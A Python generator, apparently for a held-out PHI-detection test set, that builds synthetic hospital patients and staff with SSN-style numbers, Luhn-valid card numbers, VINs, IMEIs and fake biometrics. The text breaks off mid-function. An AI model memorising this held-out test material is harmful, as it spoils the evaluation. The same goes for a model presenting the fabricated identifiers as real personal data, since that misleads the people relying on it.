#!/usr/bin/env python3
"""Deterministic generator for held-out PHI test set "gk".

Theme: a hospital security operations center (SIEM notables and correlation
results, Sentinel alerts/incidents, DLP incidents quoting matched content,
email security gateway logs, EDR detections, VPN and badge logs, privacy
monitoring, and a breach investigation worksheet).

Standard library only.  Writes gk.log and gk.labels.jsonl next to itself.
All persons, identifiers and addresses are synthetic.
"""
import base64
import datetime
import json
import os
import random
import uuid

random.seed(18181)
HERE = os.path.dirname(os.path.abspath(__file__))
ID = "gk"
N_LINES = 500

CATS = {"name", "address", "zip", "date", "age", "phone", "fax", "email", "ssn", "mrn",
        "health_plan", "account", "license", "vehicle", "device", "url", "ip", "biometric",
        "photo", "other_id"}

# ---------------------------------------------------------------- helpers

def R(a, b):
    return random.randint(a, b)


def ch(seq):
    return random.choice(seq)


def hexs(n):
    return "%0*x" % (n, random.getrandbits(4 * n))


def HEX(n):
    return hexs(n).upper()


def digits(n):
    return "".join(random.choice("0123456789") for _ in range(n))


def guid():
    return str(uuid.UUID(int=random.getrandbits(128), version=4))


def b64rand(n, prefix=b""):
    raw = prefix + bytes(random.getrandbits(8) for _ in range(n))
    return base64.b64encode(raw).decode("ascii")


MONTHS = "Jan Feb Mar Apr May Jun Jul Aug Sep Oct Nov Dec".split()
MONTHS_LONG = ("January February March April May June July August September October "
               "November December").split()


def syslog_ts(dt):
    return "%s %2d %s" % (MONTHS[dt.month - 1], dt.day, dt.strftime("%H:%M:%S"))


def iso_off(dt, ms=True):
    s = dt.strftime("%Y-%m-%dT%H:%M:%S")
    if ms:
        s += ".%03d" % R(0, 999)
    return s + "-05:00"


def utc(dt):
    return dt + datetime.timedelta(hours=5)


def utc7(dt):
    return utc(dt).strftime("%Y-%m-%dT%H:%M:%S") + ".%07dZ" % R(0, 9999999)


def utc3(dt):
    return utc(dt).strftime("%Y-%m-%dT%H:%M:%S") + ".%03dZ" % R(0, 999)


def epoch(dt):
    return int((utc(dt) - datetime.datetime(1970, 1, 1)).total_seconds())


def dfmt(d, style=None):
    style = style or ch(["us", "us", "iso", "iso", "dmy", "compact", "long", "dash", "usnz"])
    if style == "us":
        return d.strftime("%m/%d/%Y")
    if style == "iso":
        return d.strftime("%Y-%m-%d")
    if style == "dmy":
        return "%02d-%s-%d" % (d.day, MONTHS[d.month - 1].upper(), d.year)
    if style == "compact":
        return d.strftime("%Y%m%d")
    if style == "mdy8":
        return d.strftime("%m%d%Y")
    if style == "long":
        return "%s %d, %d" % (MONTHS_LONG[d.month - 1], d.day, d.year)
    if style == "dash":
        return d.strftime("%m-%d-%Y")
    if style == "usnz":
        return "%d/%d/%d" % (d.month, d.day, d.year)
    raise ValueError(style)


# ---------------------------------------------------------------- line builder

class Ph(object):
    """A PHI value to be inserted; raw=True means emitted unquoted in JSON."""
    __slots__ = ("v", "c", "raw")

    def __init__(self, v, c, raw=False):
        assert c in CATS, c
        self.v, self.c, self.raw = v, c, raw


class S(list):
    """A string made of plain str pieces and Ph pieces."""


class O(list):
    """A JSON object as an ordered list of (key, value)."""


class J(object):
    """A JSON value serialised into a JSON string (JSON-in-JSON)."""

    def __init__(self, v):
        self.v = v


def je(x):
    return json.dumps(x, ensure_ascii=False)[1:-1]


def jea(x):
    return json.dumps(x)[1:-1]


def kvq(x):
    return x.replace("\\", "\\\\").replace('"', '\\"')


def xmle(x):
    return x.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def ident(x):
    return x


class L(object):
    def __init__(self, fam):
        self.fam = fam
        self.b = bytearray()
        self.sp = []

    def t(self, x):
        self.b += x.encode("utf-8")
        return self

    def p(self, x, cat):
        assert cat in CATS, cat
        st = len(self.b)
        enc = x.encode("utf-8")
        assert enc, "empty PHI"
        self.b += enc
        self.sp.append((st, len(self.b), cat, bytes(enc)))
        return self

    def s(self, items, esc=ident):
        for it in items:
            if isinstance(it, Ph):
                self.p(esc(it.v), it.c)
            elif isinstance(it, (list, tuple)):
                self.s(it, esc)
            else:
                self.t(esc(it))
        return self

    def j(self, obj, esc=je, q='"', sep=":"):
        jval(self, obj, esc, q, sep)
        return self


def jval(ln, v, esc, q, sep=":"):
    if isinstance(v, Ph):
        if v.raw:
            ln.p(v.v, v.c)
        else:
            ln.t(q)
            ln.p(esc(v.v), v.c)
            ln.t(q)
    elif isinstance(v, S):
        ln.t(q)
        ln.s(v, esc)
        ln.t(q)
    elif isinstance(v, O):
        ln.t("{")
        for i, (k, x) in enumerate(v):
            if i:
                ln.t(",")
            ln.t(q + esc(k) + q + sep)
            jval(ln, x, esc, q, sep)
        ln.t("}")
    elif isinstance(v, J):
        ln.t(q)
        inner_esc = (lambda x, _e=esc: _e(je(x)))
        jval(ln, v.v, inner_esc, esc('"'), ":")
        ln.t(q)
    elif isinstance(v, list):
        ln.t("[")
        for i, x in enumerate(v):
            if i:
                ln.t(",")
            jval(ln, x, esc, q, sep)
        ln.t("]")
    elif isinstance(v, str):
        ln.t(q + esc(v) + q)
    else:
        ln.t(json.dumps(v))


# ---------------------------------------------------------------- identifiers

def luhn(payload):
    tot = 0
    for i, d in enumerate(reversed(payload)):
        n = int(d)
        if i % 2 == 0:
            n *= 2
            if n > 9:
                n -= 9
        tot += n
    return str((10 - tot % 10) % 10)


def luhn_ok(num):
    tot = 0
    for i, d in enumerate(reversed(num)):
        n = int(d)
        if i % 2 == 1:
            n *= 2
            if n > 9:
                n -= 9
        tot += n
    return tot % 10 == 0


def ssn():
    while True:
        a = R(1, 772)
        if a == 666:
            continue
        return "%03d-%02d-%04d" % (a, R(1, 99), R(1, 9999))


MBI_L = "ACDEFGHJKMNPQRTUVWXY"
MBI_AN = MBI_L + "0123456789"
DG = "0123456789"


def mbi():
    return (ch("123456789") + ch(MBI_L) + ch(MBI_AN) + ch(DG) + ch(MBI_L) + ch(MBI_AN)
            + ch(DG) + ch(MBI_L) + ch(MBI_L) + ch(DG) + ch(DG))


VIN_MAP = {"A": 1, "B": 2, "C": 3, "D": 4, "E": 5, "F": 6, "G": 7, "H": 8, "J": 1, "K": 2,
           "L": 3, "M": 4, "N": 5, "P": 7, "R": 9, "S": 2, "T": 3, "U": 4, "V": 5, "W": 6,
           "X": 7, "Y": 8, "Z": 9}
for _d in DG:
    VIN_MAP[_d] = int(_d)
VIN_W = [8, 7, 6, 5, 4, 3, 2, 10, 0, 9, 8, 7, 6, 5, 4, 3, 2]
VCH = "ABCDEFGHJKLMNPRSTUVWXYZ0123456789"


def vin():
    wmi = ch(["1HG", "4S4", "5YJ", "1FT", "JTD", "3VW", "2T1", "KM8", "1C4", "WBA", "5FN"])
    v = wmi + "".join(ch(VCH) for _ in range(5)) + "0" + ch("EFGHJKLMNPR") + ch(VCH) + digits(6)
    s = sum(VIN_MAP[c] * VIN_W[i] for i, c in enumerate(v)) % 11
    c = "X" if s == 10 else str(s)
    v = v[:8] + c + v[9:]
    assert sum(VIN_MAP[c] * VIN_W[i] for i, c in enumerate(v)) % 11 == (10 if v[8] == "X" else int(v[8]))
    return v


def imei():
    body = ch(["35391110", "35875410", "35332811", "01326300", "35925406", "86891403"]) + digits(6)
    v = body + luhn(body)
    assert luhn_ok(v)
    return v


def card():
    kind = ch(["visa", "visa", "mc", "amex", "disc"])
    if kind == "visa":
        body = "4" + digits(14)
    elif kind == "mc":
        body = ch(["51", "52", "53", "54", "55"]) + digits(13)
    elif kind == "amex":
        body = ch(["34", "37"]) + digits(12)
    else:
        body = "6011" + digits(11)
    v = body + luhn(body)
    assert luhn_ok(v)
    return v


def card_fmt(c):
    if len(c) == 15:
        return "%s %s %s" % (c[:4], c[4:10], c[10:])
    sep = ch([" ", "-", ""])
    return sep.join([c[0:4], c[4:8], c[8:12], c[12:16]])


def nhs():
    while True:
        d = digits(9)
        s = sum(int(c) * (10 - i) for i, c in enumerate(d))
        c = 11 - s % 11
        if c == 11:
            c = 0
        if c == 10:
            continue
        v = d + str(c)
        return "%s %s %s" % (v[:3], v[3:6], v[6:])


def pesel(dob, male):
    yy = dob.year % 100
    mm = dob.month + (20 if dob.year >= 2000 else 0)
    base = "%02d%02d%02d" % (yy, mm, dob.day) + digits(3) + str(ch([1, 3, 5, 7, 9] if male else [0, 2, 4, 6, 8]))
    w = [1, 3, 7, 9, 1, 3, 7, 9, 1, 3]
    c = (10 - sum(int(x) * w[i] for i, x in enumerate(base)) % 10) % 10
    return base + str(c)


def sin_ca():
    body = ch("1234567") + digits(7)
    v = body + luhn(body)
    return "%s %s %s" % (v[:3], v[3:6], v[6:])


ASCII_MAP = str.maketrans({"ś": "s", "ö": "o", "ø": "o", "Ø": "O", "ı": "i", "ş": "s", "ë": "e",
                           "é": "e", "ó": "o", "ü": "u", "í": "i", "ã": "a", "ñ": "n", "ç": "c",
                           "Ş": "S", "Ö": "O", "Ü": "U", "ł": "l", "Ł": "L", "ą": "a", "ę": "e",
                           "ż": "z", "á": "a", "ú": "u", "'": "", " ": ""})


def asc(x):
    return x.translate(ASCII_MAP)


# ---------------------------------------------------------------- world

HOSP = "St. Gabriel Regional Medical Center"
DOM = "stgabrielhealth.org"
AD = "corp.stgabriel.org"
TODAY = datetime.date(2024, 11, 5)

CITIES = [("Spokane", "WA", ["99201", "99202", "99203", "99205", "99207", "99208", "99223", "99224"], "Spokane County"),
          ("Spokane Valley", "WA", ["99206", "99212", "99216", "99037"], "Spokane County"),
          ("Cheney", "WA", ["99004"], "Spokane County"),
          ("Liberty Lake", "WA", ["99019"], "Spokane County"),
          ("Deer Park", "WA", ["99006"], "Spokane County"),
          ("Airway Heights", "WA", ["99001"], "Spokane County"),
          ("Medical Lake", "WA", ["99022"], "Spokane County"),
          ("Colville", "WA", ["99114"], "Stevens County"),
          ("Moses Lake", "WA", ["98837"], "Grant County"),
          ("Pullman", "WA", ["99163"], "Whitman County"),
          ("Coeur d'Alene", "ID", ["83814", "83815"], "Kootenai County"),
          ("Post Falls", "ID", ["83854"], "Kootenai County"),
          ("Sandpoint", "ID", ["83864"], "Bonner County")]
STREETS = ["N Monroe St", "E Sprague Ave", "W Francis Ave", "S Grand Blvd", "E 29th Ave",
           "N Division St", "W Garland Ave", "E Mission Ave", "S Perry St", "N Argonne Rd",
           "E Trent Ave", "Larch St", "Alder Creek Rd", "W Nora Ave", "N Pines Rd",
           "S Adams Rd", "W Rowan Ave", "E Queen Ave", "Elm Ct", "N Wall St", "W Sunset Hwy",
           "E Bridgeport Ave", "Kathleen Ave", "Seltice Way", "S Cedar Rd", "N Nevada St"]
UNITS = ["Apt 4B", "Apt 12", "Unit 207", "#3", "Apt C", "Spc 41", "Lot 18"]
MAILDOM = ["gmail.com", "gmail.com", "yahoo.com", "outlook.com", "hotmail.com", "icloud.com",
           "comcast.net", "protonmail.com", "aol.com", "live.com"]

PT_NAMES = [
    ("Anna", "M", "Kowalski", "F"), ("Maja", "", "Lindqvist", "F"), ("Tomasz", "J", "Wiśniewski", "M"),
    ("Hiroshi", "", "Nakamura", "M"), ("Folake", "A", "Adeyemi", "F"), ("Emeka", "", "Okonkwo", "M"),
    ("Esteban", "R", "Ruiz", "M"), ("Guadalupe", "", "Castellanos", "F"), ("Priya", "S", "Raghunathan", "F"),
    ("Siobhan", "M", "O'Sullivan", "F"), ("Dmitri", "V", "Petrov", "M"), ("Mei-Ling", "", "Chen", "F"),
    ("Kwame", "O", "Mensah", "M"), ("Ingrid", "L", "Haugland", "F"), ("Björn", "", "Øvergaard", "M"),
    ("Thanh", "V", "Tran", "M"), ("Leilani", "K", "Kahananui", "F"), ("Yusuf", "", "Haddad", "M"),
    ("Ayşe", "", "Yılmaz", "F"), ("Chayton", "J", "Begay", "M"), ("Giulia", "", "Bianchi", "F"),
    ("Zoë", "E", "Moreau", "F"), ("José Luis", "", "Ferreira", "M"), ("Nnamdi", "C", "Eze", "M"),
    ("Haruto", "", "Tanaka", "M"), ("Fatima", "Z", "Al-Sayed", "F"), ("Declan", "P", "Abernathy", "M"),
    ("Marisol", "", "Delgado", "F"), ("Aleksandra", "K", "Nowak", "F"), ("Olumide", "", "Bankole", "M"),
    ("Wiremu", "", "Tane", "M"), ("Eleanor", "R", "Whitcombe", "F"), ("Ruth", "A", "Feldman", "F"),
    ("Bartholomew", "", "Quaye", "M"),
]
REL_FIRST_F = ["Carmen", "Akari", "Kasia", "Ngozi", "Lucía", "Beatriz", "Sunniva", "Farah", "Mai",
               "Rosa", "Imogen", "Hana", "Adaeze", "Elif", "Noemi", "Tallulah"]
REL_FIRST_M = ["Kwabena", "Luis", "Piotr", "Kenta", "Ahmed", "Oskar", "Minh", "Tariq", "Ezra",
               "Mateo", "Chinedu", "Rangi", "Soren", "Ivan"]
RELS_F = ["Daughter", "Spouse", "Mother", "Sister", "Guardian", "Friend", "Daughter"]
RELS_M = ["Son", "Spouse", "Father", "Brother", "Guardian", "Friend", "Son"]
PLANS = [("Premera Blue Cross", lambda: "PRM" + digits(9)), ("Regence BlueShield", lambda: "XEH" + digits(9)),
         ("Aetna", lambda: "W" + digits(9)), ("UnitedHealthcare", lambda: digits(9) + "01"),
         ("Molina Healthcare of WA", lambda: digits(9) + "WA"), ("Kaiser Permanente WA", lambda: "KPW" + digits(8)),
         ("Cigna", lambda: "U" + digits(8) + "01"), ("Apple Health (Medicaid)", lambda: digits(9) + "WA")]


def phone():
    ac = ch(["509", "509", "509", "208", "206", "425"])
    return ac, "555", "01%02d" % R(0, 99)


def pfmt(ph, style=None):
    ac, ex, ln = ph
    style = style or ch(["paren", "dash", "dash", "dot", "e164", "plain"])
    if style == "paren":
        return "(%s) %s-%s" % (ac, ex, ln)
    if style == "dash":
        return "%s-%s-%s" % (ac, ex, ln)
    if style == "dot":
        return "%s.%s.%s" % (ac, ex, ln)
    if style == "e164":
        return "+1%s%s%s" % (ac, ex, ln)
    return "%s%s%s" % (ac, ex, ln)


def home_ip():
    a = ch([24, 50, 67, 71, 73, 76, 97, 98, 107, 162, 174, 184, 66, 69])
    return "%d.%d.%d.%d" % (a, R(1, 254), R(0, 255), R(1, 254))


def randdate(y0, y1):
    start = datetime.date(y0, 1, 1).toordinal()
    end = datetime.date(y1, 12, 28).toordinal()
    return datetime.date.fromordinal(R(start, end))


def svc_date():
    return datetime.date.fromordinal(R(datetime.date(2024, 6, 1).toordinal(), datetime.date(2024, 11, 3).toordinal()))


class Person(dict):
    def __getattr__(self, k):
        return self[k]


def age_of(d):
    a = TODAY.year - d.year - ((TODAY.month, TODAY.day) < (d.month, d.day))
    return a


def make_patients():
    pts = []
    old_idx = {3, 12, 13, 31, 32, 24}
    for i, (f, m, l, sex) in enumerate(PT_NAMES):
        if i in old_idx:
            dob = randdate(1928, 1934)
        else:
            dob = randdate(1941, 2009)
        city, st, zips, county = ch(CITIES)
        pp = Person()
        pp.update(first=f, mi=m, last=l, sex=sex, dob=dob, age=age_of(dob),
                  mrn="%08d" % R(100000, 2999999), ssn=ssn(),
                  street="%d %s" % (R(100, 24999), ch(STREETS)), unit=ch(UNITS) if R(0, 3) == 0 else "",
                  city=city, state=st, zip=ch(zips), county=county, phone=phone(), phone2=phone())
        fa, la = asc(f).lower(), asc(l).lower().replace("-", "")
        pp["email"] = ch(["%s.%s%d" % (fa, la, dob.year % 100), "%s%s" % (fa[0], la), "%s_%s%d" % (fa, la, R(1, 99)),
                          "%s%s%d" % (fa, la[0], dob.year)]) + "@" + ch(MAILDOM)
        plan, gen = ch(PLANS)
        pp["plan"] = plan
        pp["member"] = gen()
        pp["mbi"] = mbi() if pp.age >= 65 else None
        pp["har"] = "%010d" % R(4000000000, 4099999999)
        pp["card"] = card()
        pp["dl"] = ("WDL" + "".join(ch("ABCDEFGHJKLMNPRSTUVWXYZ0123456789") for _ in range(9))) if st == "WA" \
            else (ch("ABCDEFGHJKLMNPRSTUVWXYZ") + ch("ABCDEFGHJKLMNPRSTUVWXYZ") + digits(6) + ch("ABCDEFGHJKLMNPRSTUVWXYZ"))
        pp["portal"] = ch(["%s.%s%d" % (fa, la[0], dob.year), "%s%s%02d" % (fa[0], la, dob.year % 100),
                           "%s_%s" % (fa, la), "%s%s" % (la, R(10, 99))])
        pp["ip"] = home_ip()
        pp["imei"] = imei()
        pp["vin"] = vin()
        pp["plate"] = ch(["%s%s%s%s" % (ch("ABCDEFGHJKLMNPRSTUVWXYZ"), ch("ABCDEFGHJKLMNPRSTUVWXYZ"),
                                          ch("ABCDEFGHJKLMNPRSTUVWXYZ"), digits(4)),
                          "%s%s%s-%s" % (ch("ABCDEFGHJKLMNPRSTUVWXYZ"), ch("ABCDEFGHJKLMNPRSTUVWXYZ"),
                                          ch("ABCDEFGHJKLMNPRSTUVWXYZ"), digits(3))])
        pp["dev"] = ch([("Medtronic Azure XT DR", "RNJ%06dS" % R(100000, 999999)),
                        ("MiniMed 780G pump", "NG%07dH" % R(1000000, 9999999)),
                        ("Dexcom G6 transmitter", "8%s" % "".join(ch("0123456789ABCDEFGHJKLMNPQRSTUVWXYZ") for _ in range(5))),
                        ("Boston Scientific ACCOLADE MRI", "%06d" % R(100000, 999999)),
                        ("Abbott FreeStyle Libre 3", "3MH%09d" % R(0, 999999999)),
                        ("ResMed AirSense 11", "2316%07d" % R(0, 9999999))])
        pp["mac"] = ":".join("%02X" % R(0, 255) for _ in range(6))
        rsex = ch("FM")
        pp["rel"] = (ch(REL_FIRST_F if rsex == "F" else REL_FIRST_M), l if R(0, 2) else ch(["Mensah", "Lund", "Ortiz", "Sato", "Haile"]),
                     ch(RELS_F if rsex == "F" else RELS_M), phone())
        pp["adm"] = svc_date()
        pp["dis"] = pp.adm + datetime.timedelta(days=R(1, 9))
        pts.append(pp)
    # a few special identifiers
    pts[28]["natid"] = ("PESEL", pesel(pts[28].dob, False))
    pts[20]["natid"] = ("Codice Fiscale", "BNCGLI" + "%02d" % (pts[20].dob.year % 100) + "ABCDEHLMPRST"[pts[20].dob.month - 1]
                        + "%02d" % (pts[20].dob.day + 40) + "Z" + digits(3) + ch("ABCDEFGHJKLMNPRSTUVWXYZ"))
    pts[31]["natid"] = ("NHS No", nhs())
    pts[14]["natid"] = ("Personnummer", pts[14].dob.strftime("%y%m%d") + "-" + digits(5))
    pts[10]["natid"] = ("SIN", sin_ca())
    return pts


PTS = make_patients()
# skewed reuse: incident "stars" appear much more often
PT_W = [6, 5, 4, 7, 4, 5, 4, 2, 2, 3, 2, 2, 5, 4, 2, 4, 2, 3, 2, 2, 2, 2, 2, 3, 4, 2, 2, 3, 2, 2, 1, 4, 4, 1]
assert len(PT_W) == len(PTS)


def pt():
    return random.choices(PTS, weights=PT_W)[0]


def make_infants():
    out = []
    moms = [p for p in PTS if p.sex == "F" and 1980 <= p.dob.year <= 2004]
    for fn, m in zip(["Haruto", "Amara", "Mateo", "Freya"], random.sample(moms, 4)):
        out.append({"name": "%s, %s" % (m.last.upper(), fn.upper()), "mom": m, "mrn": "%08d" % R(3000000, 3099999),
                    "tag": "%s%s%04d" % (ch("123456"), ch("ABCD"), R(0, 9999))})
    return out


INFANTS = make_infants()
DECEASED = [PTS[32], PTS[33]]


STAFF_RAW = [("Rebecca", "Bauer", "Health Information Mgmt"), ("Chidi", "Okafor", "Security Operations"),
             ("Dev", "Patel", "Radiology"), ("Thanh", "Nguyen", "Pharmacy"), ("Mariam", "Khalil", "Oncology"),
             ("Jonah", "Whitfield", "Patient Access"), ("Lucía", "Fernández", "Security Operations"),
             ("Pekka", "Virtanen", "IT Infrastructure"), ("Aaliyah", "Brooks", "ED Nursing"),
             ("Kenji", "Mori", "Cardiology"), ("Sunita", "Rao", "Privacy Office"),
             ("Graham", "McAllister", "Information Security"), ("Oksana", "Hrytsenko", "Patient Financial Services"),
             ("Tevita", "Fifita", "Facilities"), ("Marcus", "Oyelaran", "Security Operations"),
             ("Hannah", "Kowalczyk", "Laboratory"), ("Ines", "Carvalho", "Health Information Mgmt"),
             ("Samuel", "Achterberg", "Revenue Cycle"), ("Naledi", "Dube", "NICU Nursing"),
             ("Arjun", "Menon", "IT Service Desk")]


def make_staff():
    out = []
    for f, l, dept in STAFF_RAW:
        s = Person()
        user = (asc(f)[0] + asc(l)).lower()
        s.update(first=f, last=l, dept=dept, user=user,
                 email="%s.%s@%s" % (asc(f).lower(), asc(l).lower(), DOM),
                 badge=R(10000, 99999), ip=home_ip(), sid="S-1-5-21-3418826011-2771354270-1928475512-%d" % R(1100, 48000),
                 plate="%s%s%s%s" % (ch("ABCDEFGHJKLMNPRSTUVWXYZ"), ch("ABCDEFGHJKLMNPRSTUVWXYZ"), ch("ABCDEFGHJKLMNPRSTUVWXYZ"), digits(4)),
                 personal="%s%s%d@%s" % (asc(f).lower(), asc(l).lower()[:4], R(70, 99), ch(MAILDOM)))
        out.append(s)
    return out


STAFF = make_staff()
SOC = [s for s in STAFF if s.dept in ("Security Operations", "Privacy Office", "Information Security")]
CLIN = [s for s in STAFF if s not in SOC]


def staff():
    return ch(STAFF)


def clin():
    return ch(CLIN)


def analyst():
    return ch(SOC)


WS = ["WS-ED-0142", "WS-HIM-0412", "LT-ONC-0231", "WS-RAD-0117", "WS-PHARM-0058", "LT-CARD-0307",
      "WS-REG-0021", "WS-BILL-0330", "LT-SOC-0009", "WS-LAB-0194", "WS-NICU-0072", "LT-PRIV-0003",
      "WS-HIM-0409", "VDI-CLIN-1182"]
SRV = ["epic-prd-app03", "epic-prd-app04", "fs-him01", "pacs-prd02", "clarity-db01", "cloverleaf-if01",
       "dc01", "dc02", "exch-hyb01", "sccm01", "mychart-prd-web02", "citrix-sf01", "adfs01",
       "splunk-idx01", "splunk-sh01", "dlp-enf01", "kronos-app01", "omnicell-srv01"]
ATK = ["185.220.101.%d", "45.141.84.%d", "194.26.29.%d", "91.240.118.%d", "103.251.167.%d",
       "5.188.206.%d", "193.142.146.%d", "80.94.95.%d", "141.98.11.%d", "179.43.187.%d"]


def atk_ip():
    return ch(ATK) % R(2, 250)


def priv_ip():
    k = R(0, 5)
    if k <= 3:
        return "10.%d.%d.%d" % (ch([20, 32, 42, 64, 88, 112, 250]), R(0, 255), R(2, 254))
    if k == 4:
        return "172.%d.%d.%d" % (R(16, 31), R(0, 255), R(2, 254))
    return "192.168.%d.%d" % (R(0, 40), R(2, 254))


def host():
    return ch(WS)


def fqdn(h):
    return "%s.%s" % (h.lower(), AD)


def sha256():
    return hexs(64)


def md5():
    return hexs(32)


def inc_no():
    return R(41000, 49999)


# ---------------------------------------------------------------- PHI fragments

def nm(p, style=None):
    """Return list of segments for a patient name."""
    style = style or ch(["LF", "lf", "FL", "FL", "FML", "LFM"])
    f, m, l = p.first, p.mi, p.last
    if style == "LF":
        v = "%s, %s" % (l.upper(), f.upper())
    elif style == "lf":
        v = "%s, %s" % (l, f)
    elif style == "FML" and m:
        v = "%s %s. %s" % (f, m, l)
    elif style == "LFM" and m:
        v = "%s, %s %s" % (l.upper(), f.upper(), m)
    elif style == "file":
        v = "%s_%s" % (asc(l).replace("-", ""), asc(f).replace(" ", ""))
    elif style == "fileFL":
        v = "%s_%s" % (asc(f).replace(" ", ""), asc(l).replace("-", ""))
    elif style == "spc":
        v = "%s %s" % (l, f)
    else:
        v = "%s %s" % (f, l)
    return Ph(v, "name")


def relname(p):
    return Ph("%s %s" % (p.rel[0], p.rel[1]), "name")


def addr(p, with_zip=True, joined=None):
    """street, city, state zip -> segments"""
    st = p.street + ((" " + p.unit) if p.unit else "")
    out = [Ph(st, "address"), ", ", Ph(p.city, "address"), ", " + p.state]
    if with_zip:
        out += [" ", Ph(p.zip, "zip")]
    return out


def agefrag(p, fmt=None):
    fmt = fmt or ch(["%d y/o", "%dyo", "%d-year-old", "%dY", "age %d"])
    s = fmt % p.age
    if p.age > 89:
        # label only the number
        i = fmt.index("%d")
        pre, post = fmt[:i], fmt[i + 2:]
        return [pre, Ph(str(p.age), "age"), post]
    return [s]


def mbi_fmt(v):
    return v if R(0, 1) else "%s-%s-%s" % (v[:4], v[4:7], v[7:])


def jpeg_b64(n):
    return b64rand(n, b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00")


def png_b64(n):
    return b64rand(n, b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR")


def fmr_b64(n):
    return b64rand(n, b"FMR\x00 20\x00")


def snippet(p, style=None):
    """Matched-content snippet as quoted by DLP tools (list of segments)."""
    style = style or ch(["face", "lab", "claim", "csv", "referral", "medicare", "payment", "intake",
                         "device", "roi_fax", "mva", "palm", "intl", "discharge", "face", "csv", "idcard",
                         "roi_fax", "palm", "lab", "discharge", "referral"])
    d = p.dob
    if style == "face":
        out = ["...Patient Name: ", nm(p, "LF"), "  DOB: ", Ph(dfmt(d, "us"), "date"), "  Sex: ", p.sex,
               "  MRN: ", Ph(p.mrn, "mrn"), "  SSN: ", Ph(p.ssn, "ssn"), "  Address: "] + addr(p) + \
              ["  Home Ph: ", Ph(pfmt(p.phone, "paren"), "phone"), "  Ins: ", p.plan, " ID ", Ph(p.member, "health_plan"), "..."]
    elif style == "lab":
        out = ["...PATIENT: ", nm(p, "LF"), " MRN: ", Ph(p.mrn, "mrn"), " DOB: ", Ph(dfmt(d, "us"), "date"), " AGE/SEX: "] + \
              agefrag(p, "%dY") + ["/%s COLLECTED: " % p.sex, Ph(dfmt(svc_date(), "us"), "date"),
                                   " %02d:%02d ORDER#: %d ORDERING: %s, MD  HbA1c 7.9 %%..." % (R(5, 11), R(0, 59), R(30000000, 39999999), ch(["Mori, Kenji", "Khalil, Mariam", "Dube, Naledi"]))]
    elif style == "claim":
        out = ["...SUBSCRIBER: ", nm(p, "LF"), "  MEMBER ID: ", Ph(p.member, "health_plan"), "  GROUP: %d-%04d" % (R(10000, 99999), R(1, 20)),
               "  PAT ACCT: ", Ph(p.har, "account"), "  DOS: ", Ph(dfmt(p.adm, "us"), "date"), "  CPT 99214 $%d.00..." % R(140, 390)]
    elif style == "csv":
        out = ["row %d: " % R(2, 240), Ph(p.mrn, "mrn"), ",", Ph(p.last, "name"), ",", Ph(p.first, "name"), ",",
               Ph(dfmt(d, "iso"), "date"), ",", Ph(p.ssn, "ssn"), ",", Ph(pfmt(p.phone, "dash"), "phone"), ",",
               Ph(p.zip, "zip")]
    elif style == "referral":
        out = ["...I am referring ", nm(p, "FL"), " (DOB ", Ph(dfmt(d, "long"), "date"), "), a "] + \
              agefrag(p, "%d-year-old") + [" %s with HFrEF, for evaluation. Please contact %s %s at " %
                                           ("woman" if p.sex == "F" else "man", "her" if p.sex == "F" else "his", p.rel[2].lower()),
                                           relname(p), ", ", Ph(pfmt(p.rel[3], "paren"), "phone"), "..."]
    elif style == "medicare":
        m = p.mbi or mbi()
        out = ["...Beneficiary: ", nm(p, "LF"), "  MBI: ", Ph(mbi_fmt(m), "health_plan"), "  DOB: ", Ph(dfmt(d, "us"), "date"),
               "  Secondary: Apple Health ProviderOne ID ", Ph(digits(9) + "WA", "health_plan"), "..."]
    elif style == "payment":
        out = ["...Guarantor: ", nm(p, "lf"), "  Card on file: ", Ph(card_fmt(p.card), "account"), "  exp %02d/%02d" % (R(1, 12), R(25, 30)),
               "  Hospital Acct #", Ph(p.har, "account"), "  Balance $%d.%02d..." % (R(20, 9000), R(0, 99))]
    elif style == "intake":
        out = ["...Name: ", nm(p, "FL"), " | DOB: ", Ph(dfmt(d, "dash"), "date"), " | DL#: ", Ph(p.dl, "license"),
               " (%s) | Email: " % p.state, Ph(p.email, "email"), " | Cell: ", Ph(pfmt(p.phone2, "dot"), "phone"), "..."]
    elif style == "device":
        out = ["...", nm(p, "FL"), ", MRN ", Ph(p.mrn, "mrn"), ": ", p.dev[0], " S/N ", Ph(p.dev[1], "device"),
               " implanted " if p.dev[0].startswith(("Medtronic", "Boston")) else " issued ", Ph(dfmt(p.adm, "us"), "date"), "; remote monitor paired to phone IMEI ", Ph(p.imei, "device"), "..."]
    elif style == "roi_fax":
        out = ["...AUTHORIZATION FOR RELEASE: Patient ", nm(p, "FL"), " DOB ", Ph(dfmt(d, "us"), "date"),
               " requests records be faxed to patient at ", Ph(pfmt(p.phone2, "dash"), "fax"), " (home fax) / ph ",
               Ph(pfmt(p.phone, "dash"), "phone"), "..."]
    elif style == "mva":
        out = ["...MVA ", Ph(dfmt(p.adm, "us"), "date"), ": pt ", nm(p, "FL"), " restrained driver, ", ch(["2017 Subaru Outback", "2019 Honda Accord", "2015 Ford F-150", "2021 Toyota RAV4"]),
               " VIN ", Ph(p.vin, "vehicle"), " plate %s " % p.state, Ph(p.plate, "vehicle"), "; PIP claim via auto carrier..."]
    elif style == "palm":
        out = ['...{"mrn":"', Ph(p.mrn, "mrn"), '","enroll_station":"REG-KIOSK-%02d","scanner":"PS-%s","palm_template":"' % (R(1, 12), HEX(8)),
               Ph(b64rand(R(90, 150)), "biometric"), '","photo":"data:image/jpeg;base64,', Ph(jpeg_b64(R(150, 260)), "photo"), '"}...']
    elif style == "intl":
        nid = p.get("natid") or ("Passport", ch("CKLPX") + digits(8))
        out = ["...Intl patient ", nm(p, "FL"), ", ", nid[0], " ", Ph(nid[1], "other_id"), ", DOB ", Ph(dfmt(d, "dmy"), "date"),
               ", self-pay, local contact ", Ph(pfmt(p.phone, "e164"), "phone"), "..."]
    elif style == "idcard":
        out = ["...<Patient><MRN>", Ph(p.mrn, "mrn"), "</MRN><Name>", nm(p, "lf"), "</Name><DOB>", Ph(dfmt(d, "iso"), "date"),
               "</DOB><IdCardFront mime=\"image/png\">", Ph(png_b64(R(120, 220)), "photo"), "</IdCardFront>..."]
    else:  # discharge
        out = ["...DISCHARGE SUMMARY  ", nm(p, "LF"), "  MRN ", Ph(p.mrn, "mrn"), "  Admit: ", Ph(dfmt(p.adm, "us"), "date"),
